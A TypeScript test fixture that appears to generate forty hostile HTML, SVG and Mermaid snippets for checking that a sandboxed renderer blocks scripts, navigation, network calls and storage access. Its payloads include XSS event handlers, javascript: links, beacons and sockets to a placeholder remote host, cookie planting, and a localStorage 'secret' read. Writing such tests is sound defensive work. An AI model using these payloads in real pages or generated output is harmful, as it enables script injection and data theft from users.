/** A document that tries to reach the page or the network, and the fence in which a model would write it. */
export interface HostileDocument {
  readonly language: 'html' | 'svg' | 'mermaid';
  readonly source: string;
}

/** Forty documents; `remote` is a server that must not be asked, or even connected to. */
export function hostileDocuments(remote: string): HostileDocument[] {
  const take = (source: string): string =>
    source.replaceAll('REMOTE', remote).replaceAll('HOST', remote.replace('http://', ''));
  const of = (language: HostileDocument['language'], sources: readonly string[]): HostileDocument[] =>
    sources.map((source) => ({ language, source: take(source) }));
  return [...of('html', pages), ...of('svg', drawings), ...of('mermaid', diagrams)];
}

const pages = [
  // Scripts.
  `<script>parent.ran = top.ran = 1; fetch('REMOTE/script')</script>`,
  `<script src="REMOTE/script.js"></script>`,
  `<script type="module">import 'REMOTE/module.js'</script>`,
  `<img src="REMOTE/image.png" onerror="top.ran = 1">`,
  `<body onload="top.location = 'REMOTE/onload'">`,
  `<svg onload="fetch('REMOTE/svg')"><script>top.ran = 1</script></svg>`,
  `<a href="javascript:top.ran = 1">click</a>`,
  `<template shadowrootmode="open"><img src="REMOTE/shadow"><a href="REMOTE/shadow-link">click</a></template>`,
  // Top navigation.
  `<a href="REMOTE/top" target="_top">click</a>`,
  `<base href="REMOTE/" target="_top"><a href="based">click</a>`,
  `<script>top.location.href = 'REMOTE/navigated'</script>`,
  `<meta http-equiv="refresh" content="0; url=REMOTE/refreshed">`,
  `<svg width="80" height="30"><a href="REMOTE/svg-link"><text y="20">click</text></a></svg>`,
  `<svg width="80" height="30"><a><animate attributeName="href" values="REMOTE/animated" /><text y="20">click</text></a></svg>`,
  // The network.
  `<link rel="stylesheet" href="REMOTE/style.css"><link rel="preconnect" href="REMOTE"><link rel="dns-prefetch" href="REMOTE">`,
  `<style>@import 'REMOTE/import.css'; @font-face { font-family: x; src: url(REMOTE/font) } body { background: url(REMOTE/ground); font-family: x }</style>`,
  `<iframe src="REMOTE/frame"></iframe><object data="REMOTE/object"></object><embed src="REMOTE/embed">`,
  `<iframe srcdoc="<script>top.ran = 1</script><img src='REMOTE/nested'>"></iframe>`,
  `<video src="REMOTE/video" autoplay poster="REMOTE/poster"></video><audio src="REMOTE/audio" autoplay></audio>`,
  `<script>new WebSocket('ws://HOST/socket'); navigator.sendBeacon('REMOTE/beacon'); new EventSource('REMOTE/events')</script>`,
  `<script>const c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:HOST?transport=tcp', username: 'a', credential: 'b' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))</script>`,
  `<a href="REMOTE/pinged" ping="REMOTE/ping">click</a>`,
  `<link rel="prefetch" href="REMOTE/prefetch"><script type="speculationrules">{"prefetch":[{"urls":["REMOTE/speculated"],"eagerness":"immediate"}]}</script>`,
  // Storage and the parent.
  `<script>top.ran = localStorage.getItem('secret'); localStorage.setItem('planted', 1)</script>`,
  `<script>document.cookie = 'planted=1'; parent.document.body.textContent = 'owned'; top.ran = 1</script>`,
  `<script>parent.postMessage({ id: 1, svg: '<svg onload="ran = 1">' }, '*'); opener.ran = 1</script>`,
  // Popups and forms.
  `<script>window.open('REMOTE/popup')</script>`,
  `<a href="REMOTE/blank" target="_blank">click</a>`,
  `<form action="REMOTE/form" method="post"><input name="a" value="b"><button>click</button></form>`,
  `<form><button formaction="REMOTE/button" formtarget="_blank">click</button></form>`,
];

const svg = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="30"';
const drawings = [
  `<svg ${svg}><script>top.ran = 1; fetch('REMOTE/drawn')</script></svg>`,
  `<svg ${svg} onload="top.ran = 1"><image href="REMOTE/picture" width="9" height="9"/><use href="REMOTE/use#a"/></svg>`,
  `<svg ${svg}><style>@import 'REMOTE/drawn.css'; svg { background: url(REMOTE/drawn-ground) }</style></svg>`,
  `<svg ${svg}><a xlink:href="REMOTE/drawn-link"><text y="20">click</text></a></svg>`,
  `<svg ${svg}><foreignObject width="80" height="30"><iframe xmlns="http://www.w3.org/1999/xhtml" src="REMOTE/foreign"/></foreignObject></svg>`,
];

const diagrams = [
  `graph LR\n  A[click] --> B\n  click A "REMOTE/diagram" _top`,
  `graph LR\n  A[click] --> B\n  click A href "javascript:top.ran=1"`,
  `%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(REMOTE/theme) } @import 'REMOTE/theme.css'"}}%%\ngraph LR\n  A["<img src=REMOTE/label onerror=top.ran=1>"] --> B`,
  `graph LR\n  A["<iframe srcdoc='<script>top.ran=1</script>'></iframe>"] --> B\n  style A fill:url(REMOTE/fill)`,
  `graph LR\n  A@{ img: "REMOTE/node.png", label: "x", w: 60, h: 60 } --> B\n  click B call fetch("REMOTE/call")`,
];
